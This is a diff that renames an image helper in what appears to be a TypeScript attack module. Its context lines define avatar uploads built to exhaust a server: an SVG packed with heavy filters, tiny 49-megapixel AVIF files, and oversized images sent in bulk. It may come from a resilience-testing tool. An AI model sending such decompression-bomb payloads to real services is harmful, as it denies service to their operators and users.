@@ -22,7 +22,8 @@ const sendAvatars = async ({ address, bearer, attackerId }: Target, type: string
   };
 };
 
-const plain = (side: number) => sharp({ create: { width: side, height: side, channels: 3, background: '#2f6f8f' } });
+const makePlain = (side: number) =>
+  sharp({ create: { width: side, height: side, channels: 3, background: '#2f6f8f' } });
 
 /** Five kilobytes of filters, which a drawing library works on for minutes. */
 export const svgAvatar: Attack = {
@@ -38,7 +39,7 @@ export const svgAvatar: Attack = {
 export const avifAvatar: Attack = {
   name: '4 avatar AVIF di 1 KB, 49 megapixel',
   prepare: async (target) =>
-    sendAvatars(target, 'image/avif', await plain(7000).avif({ effort: 0, quality: 1 }).toBuffer(), 4),
+    sendAvatars(target, 'image/avif', await makePlain(7000).avif({ effort: 0, quality: 1 }).toBuffer(), 4),
 };
 
 /** As large as a picture may be, twenty at once. */
